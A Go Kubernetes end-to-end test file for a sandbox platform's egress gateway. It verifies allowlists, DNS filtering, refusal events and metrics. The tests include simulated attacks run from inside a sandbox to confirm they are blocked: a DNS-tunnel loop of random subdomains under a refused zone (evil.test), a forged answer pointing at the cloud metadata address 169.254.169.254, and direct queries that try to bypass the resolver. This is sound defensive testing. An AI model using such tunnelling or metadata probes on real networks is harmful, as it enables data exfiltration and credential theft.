//go:build k8s

package k8se2e

import (
	"bytes"
	"context"
	"crypto/rand"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/shipyard-dev/shipyard/deploy/deploytest"
	"github.com/shipyard-dev/shipyard/internal/bay/egress/egresstest"
	"github.com/shipyard-dev/shipyard/internal/testenv/k8stest"
	"github.com/shipyard-dev/shipyard/sdk"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
)

// egressWorld is an allowlisted sandbox's world on the test cluster: the test's internet on
// the node's address (web hosts, a host that trickles forever, and a DNS server that knows
// only their names and one forged answer), bay's egress gateway deployed from bay's image in
// the test's namespace, and bay (a process of the test) configured to use it. The operator
// allows the node's one address (security.allowed_hosts): every other private range, the
// link-local metadata address among them, stays blocked.
type egressWorld struct {
	env       *k8stest.Env
	ns        string
	node      netip.Addr
	in        *egresstest.Internet
	slowPort  int
	slowConns chan struct{}
	clusterIP netip.Addr
	token     string // the gateway's admin token
	c         *sdk.Client
	url       string
}

// egressProfiles: "listed" allowlists example.com and its subdomains but one, "addressed" the
// node's address only, "closed" is mode none; the default profile is open.
func egressProfiles(node netip.Addr) string {
	profile := func(id, network string) string {
		return fmt.Sprintf(`  - id: %s
    image: %q
    resources: {cpus: 1.0, memory: "512m"}
    capabilities: [filesystem, shell, python]
    idle_timeout: 1800
    network: %s
`, id, image, network)
	}
	return defaultProfiles +
		profile("listed", `{mode: allowlist, allow: [example.com, "*.example.com"], deny: [secret.example.com]}`) +
		profile("addressed", fmt.Sprintf(`{mode: allowlist, allow: ["%s"]}`, node)) +
		profile("closed", `{mode: none}`)
}

func startEgressWorld(t testing.TB) *egressWorld {
	env := k8stest.Node(t)
	w := &egressWorld{env: env, ns: env.Namespace(t, "egress"), node: env.NodeIP(t), slowConns: make(chan struct{}, 16)}
	in, err := egresstest.NewAt(w.node)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(in.Close)
	hl, tl := k8stest.ListenNode(t, w.node), k8stest.ListenNode(t, w.node)
	hp, tp := hl.Addr().(*net.TCPAddr).Port, tl.Addr().(*net.TCPAddr).Port
	hl.Close()
	tl.Close()
	if err := in.Serve(w.node, hp, tp); err != nil {
		t.Fatal(err)
	}
	w.in = in
	for _, n := range []string{egresstest.HTTPSName, "api.example.com", "secret.example.com", "evil.test", "slow.example.com"} {
		in.Set(n, w.node)
	}
	in.Set("forged.example.com", netip.MustParseAddr("169.254.169.254"))
	// The slow host answers a request with a body that never ends.
	sl := k8stest.ListenNode(t, w.node)
	w.slowPort = sl.Addr().(*net.TCPAddr).Port
	go func() {
		_ = http.Serve(sl, http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
			rw.WriteHeader(http.StatusOK)
			rw.(http.Flusher).Flush()
			w.slowConns <- struct{}{}
			for {
				select {
				case <-r.Context().Done():
					return
				case <-time.After(100 * time.Millisecond):
				}
				if _, err := rw.Write([]byte(".")); err != nil {
					return
				}
				rw.(http.Flusher).Flush()
			}
		}))
	}()

	bayImage := deploytest.BayImage(t)
	env.ImportImage(t, bayImage)
	env.ImportImage(t, image)
	var tok [16]byte
	_, _ = rand.Read(tok[:])
	token := hex.EncodeToString(tok[:])
	tokenFile := filepath.Join(t.TempDir(), "token")
	if err := os.WriteFile(tokenFile, []byte(token), 0o600); err != nil {
		t.Fatal(err)
	}
	gateway := func(tokenPath string) string {
		return fmt.Sprintf(`    egress_gateway:
      service: %s
      namespace: %s
      token_file: %q
      upstream_http_port: %d
      upstream_tls_port: %d
`, k8stest.EgressService, w.ns, tokenPath, in.HTTPPort, in.HTTPSPort)
	}
	security := fmt.Sprintf("  allowed_hosts: [%q]\n  egress_dns_upstream: [%q]\n", netip.PrefixFrom(w.node, 32), in.DNS)
	// The gateway reads bay's configuration too; in its Pod, the API server is in-cluster.
	gwConfig := bayConfig(env, w.ns, "/tmp", 8114, gateway(k8stest.TokenPath), security, defaultProfiles)
	gwConfig = strings.Replace(gwConfig, fmt.Sprintf("kubeconfig: %q", env.Kubeconfig), `kubeconfig: ""`, 1)
	w.token = token
	w.clusterIP = env.DeployEgressGateway(t, k8stest.EgressGatewayOptions{Namespace: w.ns, Image: bayImage, Config: gwConfig, Token: token})
	w.c, w.url = runBay(t, func(dir string, port int) string {
		return bayConfig(env, w.ns, dir, port, gateway(tokenFile), security, egressProfiles(w.node))
	})
	return w
}

// call sends an API request to bay and returns the status and body.
func (w *egressWorld) call(t *testing.T, method, path string, body any) (int, string) {
	t.Helper()
	var rd io.Reader
	if body != nil {
		b, _ := json.Marshal(body)
		rd = bytes.NewReader(b)
	}
	req, _ := http.NewRequestWithContext(t.Context(), method, w.url+path, rd)
	req.Header.Set("Authorization", "Bearer "+apiKey)
	req.Header.Set("Content-Type", "application/json")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatalf("%s %s: %v", method, path, err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b)
}

// TestEgressGatewayOnKubernetes: an allowlist naming hosts on Kubernetes, enforced by the
// egress gateway Deployment (a real kube-proxy makes its Service's address work from the
// sandbox Pod, kube-router enforces the NetworkPolicies), checked with curl from the
// sandbox's shell, with and without the proxy.
func TestEgressGatewayOnKubernetes(t *testing.T) {
	w := startEgressWorld(t)
	ctx := t.Context()
	sb, err := w.c.CreateSandbox(ctx, sdk.CreateSandboxRequest{Profile: "listed"})
	if err != nil {
		t.Fatalf("create an allowlisted sandbox: %v", err)
	}
	defer sb.Delete(context.WithoutCancel(ctx))
	if err := sb.WriteFile(ctx, "ca.pem", w.in.CertPEM()); err != nil {
		t.Fatal(err)
	}
	sh := func(cmd string) string {
		t.Helper()
		r, err := sb.Shell(ctx, cmd)
		if err != nil {
			t.Fatalf("shell %q: %v", cmd, err)
		}
		return strings.TrimSpace(r.Output)
	}
	// curl's exit status comes last: 0 ok, 6 name not resolved, 7 no connection, 28 timed out.
	curl := func(args string) string { return sh("curl -sS -m 10 " + args + " 2>&1; echo \" rc=$?\"") }
	hp, tp := w.in.HTTPPort, w.in.HTTPSPort

	t.Run("the Pod resolves through the gateway only", func(t *testing.T) {
		if got := sh("grep ^nameserver /etc/resolv.conf"); got != "nameserver "+w.clusterIP.String() {
			t.Errorf("resolv.conf: %q, want the gateway Service's address %s", got, w.clusterIP)
		}
		if got := sh("echo $HTTPS_PROXY"); got != fmt.Sprintf("http://%s:3128", w.clusterIP) {
			t.Errorf("HTTPS_PROXY = %q", got)
		}
		// Another DNS server (the test's upstream itself) is not reachable from the sandbox, from
		// its first query on: the node's enforcer programs the Pod's NetworkPolicy a moment
		// after the Pod has its address (one such query was once answered 60 ms after the
		// runtime was ready), and the runtimes serve only once a connection to the gateway's
		// barrier port, which the policy forbids, fails.
		query := fmt.Sprintf(`python3 -c "
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)
s.sendto(bytes.fromhex('12340100000100000000000003617069076578616d706c6503636f6d0000010001'), ('%s', %d))
try:
    s.recv(512); print('answered')
except OSError:
    print('no answer')
"`, w.in.DNS.Addr(), w.in.DNS.Port())
		for i := range 3 {
			if got := sh(query); got != "no answer" {
				t.Errorf("DNS query %d straight to the upstream: %q", i, got)
			}
		}
		w.checkWaitedForPolicy(t, sb)
	})

	t.Run("the runtimes of every mode wait for their policy", func(t *testing.T) {
		// Modes whose Pods the gateway does not serve wait behind its barrier port too: a
		// connection there fails from the first command on (the runtime served only then),
		// while what the policy admits works.
		barrier := fmt.Sprintf(`python3 -c "
import socket
try:
    socket.create_connection(('%s', %d), timeout=2); print('connected')
except OSError:
    print('refused')
"`, w.clusterIP, k8stest.EgressBarrierPort)
		for _, c := range []struct{ profile, admitted string }{
			{"python-default", fmt.Sprintf("curl -sS -m 10 -o /dev/null http://%s:%d/; echo rc=$?", w.node, hp)},
			{"addressed", fmt.Sprintf("curl -sS -m 10 -o /dev/null http://%s:%d/; echo rc=$?", w.node, hp)},
			{"closed", "echo rc=0"},
		} {
			other, err := w.c.CreateSandbox(ctx, sdk.CreateSandboxRequest{Profile: c.profile})
			if err != nil {
				t.Fatalf("create a sandbox of %s: %v", c.profile, err)
			}
			r, err := other.Shell(ctx, barrier+"; "+c.admitted)
			if err != nil {
				t.Fatalf("%s: shell: %v", c.profile, err)
			}
			if got := strings.TrimSpace(r.Output); got != "refused\nrc=0" {
				t.Errorf("%s: the first command: %q, want the barrier refused and the admitted address reached", c.profile, got)
			}
			w.checkWaitedForPolicy(t, other)
			if err := other.Delete(ctx); err != nil {
				t.Error(err)
			}
		}
	})

	t.Run("allowed names over HTTP and HTTPS, with and without the proxy", func(t *testing.T) {
		egresstest.CheckNamesAllowed(t, curl, hp, tp)
	})

	t.Run("refusals fail fast and say why", func(t *testing.T) {
		began := time.Now()
		egresstest.CheckNameRefusals(t, curl)
		if got := curl(fmt.Sprintf("http://%s:%d/", w.node, hp)); !strings.Contains(got, "not in allow list") {
			t.Errorf("direct address through the proxy: %q", got)
		}
		if d := time.Since(began); d > 20*time.Second {
			t.Errorf("six refusals took %v", d)
		}
		// A direct address without the proxy: the NetworkPolicy admits only the gateway.
		if got := curl(fmt.Sprintf("--noproxy '*' -m 5 http://%s:%d/", w.node, hp)); strings.HasSuffix(got, "rc=0") || strings.Contains(got, "hello") {
			t.Errorf("direct address: %q, want no connection", got)
		}
	})

	t.Run("a DNS tunnel through a refused zone carries nothing out", func(t *testing.T) {
		out := sh(`n=0; for i in $(seq 100); do getent hosts "$(head -c 12 /dev/urandom | od -An -tx1 | tr -d ' \n').t.evil.test" >/dev/null && n=$((n+1)); done; echo $n`)
		if out != "0" {
			t.Errorf("%s of 100 random subdomains resolved", out)
		}
		if q := w.in.Queries("evil.test"); q != 0 {
			t.Errorf("%d queries for the refused zone reached the upstream", q)
		}
	})

	t.Run("a PATCH closes an open connection it no longer allows", func(t *testing.T) {
		type result struct {
			out string
			at  time.Time
		}
		done := make(chan result, 1)
		go func() {
			r, err := sb.Shell(context.WithoutCancel(ctx), fmt.Sprintf("curl -sN -o /dev/null -m 60 http://slow.example.com:%d/; echo rc=$?", w.slowPort))
			out := ""
			if err == nil {
				out = strings.TrimSpace(r.Output)
			} else {
				out = err.Error()
			}
			done <- result{out, time.Now()}
		}()
		select {
		case <-w.slowConns:
		case r := <-done:
			t.Fatalf("the long request ended before the PATCH: %q", r.out)
		case <-time.After(30 * time.Second):
			t.Fatal("the long request never reached the slow host")
		}
		began := time.Now()
		code, body := w.call(t, "PATCH", "/v1/sandboxes/"+sb.ID+"/network",
			map[string]any{"mode": "allowlist", "allow": []string{"example.com", "api.example.com"}})
		if code != 200 {
			t.Fatalf("PATCH: %d %s", code, body)
		}
		applied := time.Since(began)
		select {
		case r := <-done:
			t.Logf("PATCH answered in %v; the open connection ended %v after the PATCH began (%s)", applied.Round(time.Millisecond), r.at.Sub(began).Round(time.Millisecond), r.out)
			if r.out == "rc=0" || r.at.Sub(began) > 10*time.Second {
				t.Errorf("the open connection: %q after %v", r.out, r.at.Sub(began))
			}
		case <-time.After(20 * time.Second):
			t.Fatal("the open connection outlived the PATCH by 20 s")
		}
		if got := curl(fmt.Sprintf("http://slow.example.com:%d/", w.slowPort)); !strings.Contains(got, "not in allow list") {
			t.Errorf("a new connection after the PATCH: %q", got)
		}
		if got := curl("--noproxy '*' http://api.example.com/"); got != "hello from api.example.com rc=0" {
			t.Errorf("a name the PATCH kept: %q", got)
		}
	})

	t.Run("events show each refusal", func(t *testing.T) {
		code, body := w.call(t, "GET", "/v1/sandboxes/"+sb.ID+"/network/events", nil)
		if code != 200 {
			t.Fatalf("events: %d %s", code, body)
		}
		for _, want := range []string{`"kind":"dns","host":"evil.test"`, `"kind":"http","host":"evil.test","port":80`,
			`"host":"secret.example.com"`, `"host":"forged.example.com"`, `blocked address 169.254.169.254`,
			`"host":"` + w.node.String() + `"`, `"host":"slow.example.com"`, `closed: the policy no longer allows it`} {
			if !strings.Contains(body, want) {
				t.Errorf("events lack %s:\n%s", want, body)
			}
		}
		var ev struct{ Denied float64 }
		_ = json.Unmarshal([]byte(body), &ev)
		if ev.Denied < 100 {
			t.Errorf("denied = %v, want the tunnel's 100 and more", ev.Denied)
		}
	})

	t.Run("the gateway counts the refusals as metrics", func(t *testing.T) {
		pods, err := w.env.Clientset.CoreV1().Pods(w.ns).List(t.Context(), metav1.ListOptions{LabelSelector: "app.kubernetes.io/name=" + k8stest.EgressService})
		if err != nil || len(pods.Items) == 0 {
			t.Fatalf("the gateway's Pods: %v %v", pods, err)
		}
		var all strings.Builder
		for _, p := range pods.Items {
			req, _ := http.NewRequestWithContext(t.Context(), http.MethodGet, fmt.Sprintf("http://%s/metrics", net.JoinHostPort(p.Status.PodIP, fmt.Sprint(k8stest.EgressAdminPort))), nil)
			req.Header.Set("Authorization", "Bearer "+w.token)
			resp, err := http.DefaultClient.Do(req)
			if err != nil {
				t.Fatal(err)
			}
			b, _ := io.ReadAll(resp.Body)
			resp.Body.Close()
			if resp.StatusCode != http.StatusOK {
				t.Fatalf("metrics of %s: %d %s", p.Name, resp.StatusCode, b)
			}
			all.Write(b)
		}
		// The tunnel's 100 refused names at least, summed over the Pods' lines.
		var dns float64
		for line := range strings.Lines(all.String()) {
			var v float64
			if _, err := fmt.Sscanf(line, `bay_egress_denied_total{kind="dns",mode="allowlist",reason="not_allowed"} %g`, &v); err == nil {
				dns += v
			}
		}
		if dns < 100 {
			t.Errorf("refused DNS queries counted %v, want 100 and more:\n%s", dns, all.String())
		}
	})
}

// checkWaitedForPolicy checks that sandbox sb's ship waited behind the network barrier before
// it served.
func (w *egressWorld) checkWaitedForPolicy(t *testing.T, sb *sdk.Sandbox) {
	t.Helper()
	pods, err := w.env.Clientset.CoreV1().Pods(w.ns).List(t.Context(), metav1.ListOptions{LabelSelector: "bay.sandbox_id=" + sb.ID})
	if err != nil || len(pods.Items) != 1 {
		t.Fatalf("the sandbox's Pod: %v %v", pods, err)
	}
	logs, err := w.env.Clientset.CoreV1().Pods(w.ns).GetLogs(pods.Items[0].Name, &corev1.PodLogOptions{Container: pods.Items[0].Spec.Containers[0].Name}).DoRaw(t.Context())
	if err != nil || !strings.Contains(string(logs), "network policy in force") {
		t.Errorf("ship's log does not say it waited for the network policy: %v\n%s", err, logs)
		return
	}
	for line := range strings.Lines(string(logs)) {
		if strings.Contains(line, "network policy in force") {
			t.Logf("%s (%s): %s", sb.ID, pods.Items[0].Name, strings.TrimSpace(line))
		}
	}
}
